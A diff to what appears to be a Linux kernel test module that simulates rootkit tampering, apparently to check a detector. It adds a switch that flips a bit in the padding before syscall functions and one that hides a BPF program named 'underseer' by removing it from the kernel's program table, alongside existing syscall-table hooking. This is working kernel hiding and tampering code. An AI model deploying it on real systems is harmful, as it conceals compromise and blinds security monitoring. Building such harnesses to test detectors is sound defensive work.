@@ -22,8 +22,13 @@
 //     echo work       > ...    delayed work that queues itself again
 //     echo text       > ...    a call in place of the nop that getcpu starts with
 //     echo code       > ...    an executable page that belongs to nothing
+//     echo flip       > ...    a bit of what fills the space between two functions
+//     echo bpf        > ...    a BPF program named underseer out of the table of programs
 //     echo 0          > ...    puts everything back
+#include <linux/bpf.h>
+#include <linux/filter.h>
 #include <linux/ftrace.h>
+#include <linux/idr.h>
 #include <linux/if_ether.h>
 #include <linux/kprobes.h>
 #include <linux/lsm_hooks.h>
@@ -120,6 +125,27 @@ static int start_syscall(void)
 	void **table = find("sys_call_table");
 
 	return table ? set_pointer(&table[__NR_getdents64], pass_on) : -EOPNOTSUPP;
+}
+
+// What fills the space before a function is never run.
+static int start_flip(void)
+{
+	static const char *const functions[] = {
+		"__x64_sys_getcpu", "__x64_sys_sysinfo", "__x64_sys_getrusage", "__x64_sys_times", "__x64_sys_umask",
+		"__x64_sys_getpriority", "__x64_sys_setns", "__x64_sys_acct", "__x64_sys_sync", "__x64_sys_syncfs",
+		"__x64_sys_chroot", "__x64_sys_vhangup", "__x64_sys_ustat", "__x64_sys_personality",
+	};
+	static const u64 fillings[] = { 0x9090909090909090, 0xcccccccccccccccc, 0x0000000000841f0f };
+	int i, kind;
+
+	for (i = 0; i < ARRAY_SIZE(functions); i++) {
+		u64 *at = find(functions[i]);
+
+		for (kind = 0; at && kind < ARRAY_SIZE(fillings); kind++)
+			if (at[-1] == fillings[kind] && offset_in_page(at))
+				return set_pointer(&at[-1], (void *)(fillings[kind] ^ 1ULL << 56));
+	}
+	return -EOPNOTSUPP;
 }
 
 static int start_seq(void)
@@ -537,6 +563,44 @@ static void stop_work(void)
 	cancel_delayed_work_sync(&work_every_second);
 }
 
+static struct bpf_prog *hidden_program;
+static int hidden_id;
+
+// Returns what was there.
+static void *exchange_program(int id, void *program)
+{
+	spinlock_t *lock = find("prog_idr_lock");
+	void *before;
+
+	spin_lock_bh(lock);
+	before = idr_replace(find("prog_idr"), program, id);
+	spin_unlock_bh(lock);
+	return before;
+}
+
+static int start_bpf(void)
+{
+	struct idr *programs = find("prog_idr");
+	struct bpf_prog *program;
+	int id;
+
+	if (!programs || !find("prog_idr_lock"))
+		return -EOPNOTSUPP;
+	idr_for_each_entry(programs, program, id)
+		if (!strcmp(program->aux->name, "underseer")) {
+			hidden_program = program;
+			hidden_id = id;
+			exchange_program(id, NULL);
+			return 0;
+		}
+	return -ENOENT;
+}
+
+static void stop_bpf(void)
+{
+	exchange_program(hidden_id, hidden_program);
+}
+
 // The page is full of returns.
 static void *own_page;
 
@@ -632,6 +696,8 @@ static const struct hook {
 	{ "work", start_work, stop_work },
 	{ "text", start_text, unpatch },
 	{ "code", start_code, stop_code },
+	{ "flip", start_flip, restore_pointer },
+	{ "bpf", start_bpf, stop_bpf },
 };
 
 static const struct hook *active;
